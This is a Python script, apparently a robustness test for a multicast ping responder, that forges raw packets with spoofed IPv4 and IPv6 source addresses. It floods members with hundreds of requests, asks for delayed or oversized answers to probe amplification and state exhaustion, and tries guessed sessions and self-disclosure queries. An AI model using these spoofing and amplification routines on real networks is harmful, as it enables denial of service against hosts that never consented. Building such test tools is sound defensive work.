#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Misuses members of a group that answer pings: ping_attacker.py MODE GROUP PORT [SERVER]

own_port   asks from the group's own port, for answers to the group.
crowd      asks from addresses of the LAN that nobody has, 800 in all.
older      asks a server (GROUP PORT SERVER), as ssmping does, for answers to any group, and says how many came.
nobody     asks an IPv6 group from addresses that cannot be anybody's.
held       asks, from twelve addresses, for answers after a minute: more than a member keeps.
large      asks 200 times in datagrams of 60,000 bytes, and says how many answers came.
larger     gets a session, asks 200 times by unicast for answers of 9,000 bytes, and says how many of those came.
findings   gets a session, and asks in a datagram of 20,000 bytes what the member finds about itself.
stranger   asks a server (GROUP PORT SERVER) with a session that it never gave, and says which group it is offered.
"""
import socket
import struct
import sys
import time

mode, group, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
INTERFACE = socket.if_nametoindex("eth0")


def option(kind, value):
    return struct.pack(">HH", kind, len(value)) + value


def ask(sequence, name, by_multicast=0, delay_us=0, size=224, answer_bytes=0, more=b""):
    flags = by_multicast | (2 if max(size, answer_bytes) > 1400 else 0)
    message = (b"Q" + option(0, b"\x02") + option(1, name) + option(2, struct.pack(">I", sequence)) +
               option(9, b"\x01") + option(0xF4E0, struct.pack(">BBHHIH", 1, flags, 1, 0, delay_us, answer_bytes)) +
               more)
    return message + option(0xF4E2, bytes(size - len(message) - 4))


def checksum(data):
    data += bytes(len(data) % 2)
    total = sum(struct.unpack(">%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total >> 16) + (total & 0xFFFF)
    return ~total & 0xFFFF


def forged(source, payload):
    udp = struct.pack(">HHHH", 5555, port, 8 + len(payload), 0) + payload
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 1, socket.IPPROTO_UDP, 0,
                       socket.inet_aton(source), socket.inet_aton(group))
    head = head[:10] + struct.pack(">H", checksum(head)) + head[12:]
    at = socket.inet_aton(group)
    return bytes([1, 0, 0x5E, at[1] & 0x7F, at[2], at[3]]) + b"\x02\0\0\0\0\x99" + b"\x08\0" + head + udp


def forged_ipv6(source, payload):
    addresses = socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, group)
    size = 8 + len(payload)
    udp = struct.pack(">HHH", 5555, port, size)
    total = checksum(addresses + struct.pack(">II", size, socket.IPPROTO_UDP) + udp + b"\0\0" + payload)
    return (b"\x33\x33" + addresses[-4:] + b"\x02\0\0\0\0\x99" + b"\x86\xdd" +
            struct.pack(">IHBB", 6 << 28, size, socket.IPPROTO_UDP, 1) + addresses + udp +
            struct.pack(">H", total or 0xFFFF) + payload)


def send_forged(requests, at_once):
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind(("eth0", 0))
    for number, (source, payload) in enumerate(requests):
        wire.send((forged_ipv6 if ":" in source else forged)(source, payload))
        if number % at_once == at_once - 1:
            time.sleep(0.02)


def own_socket(own_port):
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, struct.pack("=4s4si", bytes(4), bytes(4), INTERFACE))
    out.bind(("", own_port))
    return out


def options(message):
    at, found = 1, {}
    while at + 4 <= len(message):
        kind, size = struct.unpack(">HH", message[at:at + 4])
        found[kind] = message[at + 4:at + 4 + size]
        at += 4 + size
    return found


def get_session(sock, name):
    """Asks the group once. Returns where the answer came from, and the session in it as an option."""
    sock.settimeout(10)
    sock.sendto(ask(1, name), (group, port))
    answer, member = sock.recvfrom(65535)
    return member, option(11, options(answer)[11])


def count_answers(sock, wanted_bytes, wait_s):
    got = 0
    try:
        sock.settimeout(wait_s)
        while True:
            got += len(sock.recv(65535)) == wanted_bytes
    except socket.timeout:
        return got


if mode == "own_port":
    sock = own_socket(port)
    sock.settimeout(10)
    sock.sendto(ask(1, b"own port", by_multicast=1), (group, port))
    while True:
        answer = sock.recv(65535)
        if answer[:1] == b"A":  # who listens without answering pings says "ack"
            break
    print("answer by unicast: %d bytes" % len(answer))
elif mode == "older":
    sock = own_socket(0)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
                    struct.pack("=4s4si", socket.inet_aton(group), bytes(4), INTERFACE))
    sock.sendto(b"Q" + option(1, b"older") + option(2, bytes(4)) + option(4, b"\x01" + socket.inet_aton(group)),
                (sys.argv[4], port))
    sock.settimeout(10)
    answers = [sock.recv(65535)]
    sock.settimeout(1)
    try:
        while True:
            answers.append(sock.recv(65535))
    except socket.timeout:
        pass
    print("answers: %d" % len(answers))
elif mode == "crowd":
    send_forged((("10.0.0.%d" % (50 + n % 200), ask(n, b"crowd")) for n in range(800)), 50)
elif mode == "nobody":
    send_forged(((source, ask(n, b"nobody")) for n, source in
                 enumerate(("::", "::1", "ff15::7", "::ffff:127.0.0.1", "::ffff:10.0.0.3", "fd00::77"))), 50)
elif mode == "held":
    send_forged((("10.0.0.%d" % (50 + n // 100), ask(n, b"held", delay_us=60000000)) for n in range(1200)), 100)
elif mode == "large":
    sock = own_socket(0)
    got = 0
    for n in range(200):
        sock.settimeout(2)
        sock.sendto(ask(n, b"large", size=60000), (group, port))
        got += count_answers(sock, 60000, 0.01)
    got += count_answers(sock, 60000, 2)
    print("large answers: %d of 200" % got)
elif mode == "larger":
    sock = own_socket(0)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    member, session = get_session(sock, b"larger")
    for n in range(2, 202):
        sock.sendto(ask(n, b"larger", answer_bytes=9000, more=session), member)
    print("larger answers: %d of 200" % count_answers(sock, 9000, 2))
elif mode == "findings":
    sock = own_socket(0)
    member, session = get_session(sock, b"findings")
    sock.sendto(ask(2, b"findings", size=20000, more=session + option(0xF4E3, b"?")), member)
    answer = sock.recv(65535)
    print("findings: %s, answer of %d bytes" % (options(answer)[0xF4E3].split(b"\n")[0].decode(), len(answer)))
elif mode == "stranger":
    sock = own_socket(0)
    sock.settimeout(10)
    sock.sendto(b"Q" + option(0, b"\x02") + option(1, b"stranger") + option(2, bytes(4)) +
                option(4, b"\0\x01" + socket.inet_aton(group)) + option(11, b"a guess!"), (sys.argv[4], port))
    answer = sock.recv(65535)
    offered = options(answer).get(4)
    print("%s, group: %s" % (answer[:1].decode(), socket.inet_ntoa(offered[2:]) if offered else "none"))
print("done", flush=True)
